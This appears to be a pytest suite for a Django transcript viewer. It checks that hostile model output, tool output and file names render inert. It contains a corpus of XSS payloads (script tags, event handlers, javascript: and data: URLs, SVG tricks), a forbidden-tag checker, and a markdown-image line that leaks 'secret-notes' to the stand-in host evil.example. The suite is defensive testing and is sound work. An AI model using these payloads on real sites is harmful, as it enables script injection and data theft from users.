"""Untrusted model output renders inert: an XSS corpus in text, tool output and file names."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from tests.factories import make_run, make_thread
from transcripts.web.rendering import inline_image_url, pretty_json, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](https://example.com/x.png" onerror="alert(1))',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[a](<javascript:alert(1)>)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<style>body{display:none}</style>",
    '"><script>alert(1)</script>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://example.com/a.png)](javascript:alert(1))",
    '[x](https://example.com/"onmouseover="alert(1))',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    "line one\n<img src=x onerror=alert(1)>\nline two",
]

FORBIDDEN_TAGS = {"script", "iframe", "svg", "math", "object", "embed", "style", "base", "meta"}


class _Elements(HTMLParser):
    """Every element the browser would build, with its attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def _assert_inert(html: str, *, own_scripts: bool = False) -> None:
    parser = _Elements()
    parser.feed(html)
    for tag, attrs in parser.elements:
        values = dict(attrs)
        if tag == "script" and own_scripts and (values.get("src") or "").startswith("/static/"):
            continue
        if tag == "meta" and own_scripts and "onerror" not in values:
            continue
        own_svg = ("tree-svg", "trace-bar", "rolebar", "fb-icon", "fb-icon fb-icon-down")
        if tag == "svg" and own_scripts and values.get("class") in own_svg:
            continue
        assert tag not in FORBIDDEN_TAGS, (tag, attrs)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, attrs)
            if name in ("href", "src", "action", "xlink:href", "formaction"):
                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert not url.startswith(("javascript:", "vbscript:")), (tag, attrs)
                if url.startswith("data:"):
                    assert tag == "img" and name == "src", (tag, attrs)
                    assert re.match(r"data:image/(png|jpeg|gif|webp|avif);", url), (tag, attrs)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_payloads_render_inert(payload: str) -> None:
    _assert_inert(render_markdown(payload))


def test_json_payloads_render_escaped() -> None:
    html = pretty_json({"html": PAYLOADS, "<script>": "</pre><script>alert(1)</script>"})
    _assert_inert(html)
    assert "&lt;script&gt;" in html


def test_only_raster_data_urls_become_image_previews() -> None:
    # Remote images are placeholders until the reader asks (tests/web/test_remote_images.py).
    assert inline_image_url("https://example.com/a.png") is None
    assert inline_image_url("data:image/png;base64,AAAA")
    assert inline_image_url("data:image/svg+xml;base64,PHN2Zz4=") is None
    assert inline_image_url("javascript:alert(1)") is None
    assert inline_image_url("data:text/html,<script>") is None


@pytest.mark.django_db
def test_a_hostile_thread_renders_inert_in_every_page(viewer_client: Client) -> None:
    title = "<script>alert('title')</script>"
    thread = make_thread(title, agents={"evil": {"agent_name": "<img src=x onerror=alert(1)>"}})
    text = "\n\n".join(PAYLOADS)
    parts = [
        {"type": "text", "text": text},
        {"type": "reasoning", "text": text},
        {"type": "tool-call", "toolCallId": '"><script>', "toolName": "<svg onload=alert(1)>",
         "input": {"html": "<script>alert(1)</script>"}},
        {"type": "file", "mimeType": "image/svg+xml", "name": "<img src=x onerror=alert(1)>.svg",
         "url": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
        {"type": "file", "mimeType": "text/html", "name": "<script>x</script>",
         "url": "javascript:alert(1)"},
        {"type": "file", "mimeType": "image/png", "name": "ok\" onerror=\"alert(1)",
         "url": "https://example.com/x.png\" onerror=\"alert(1)"},
    ]  # fmt: skip
    run = make_run(
        thread,
        ("message", {"role": "assistant", "parts": parts, "metadata": {
            "agentId": "evil", "model": "<script>m</script>",
            "errors": ["<img src=x onerror=alert(1)>"], "annotations": [{"type": "<svg>"}]}}),
        ("tool-result", {"toolCallId": '"><script>', "toolName": "<svg onload=alert(1)>",
                         "output": "<script>alert('out')</script>", "isError": True}),
        ("data-<script>", {"payload": "<script>alert(1)</script>"}),
    )  # fmt: skip
    pages = [
        f"/t/{thread.id}/",
        f"/t/{thread.id}/tree/",
        f"/runs/{run.id}/",
        "/?q=alert",
        "/",
    ]
    for url in pages:
        response = viewer_client.get(url)
        assert response.status_code == 200
        # The page's own scripts, all from /static/, are the only ones.
        _assert_inert(response.content.decode(), own_scripts=True)


def test_markdown_images_in_message_text_are_never_loaded_by_the_browser() -> None:
    html = render_markdown("leak ![chart *q3*](https://evil.example/p.png?d=secret-notes)")
    assert "<img" not in html
    assert 'href="https://evil.example/p.png?d=secret-notes"' in html
    assert "chart q3" in html
    assert "<img" not in render_markdown("![x](data:image/png;base64,AAAA)")
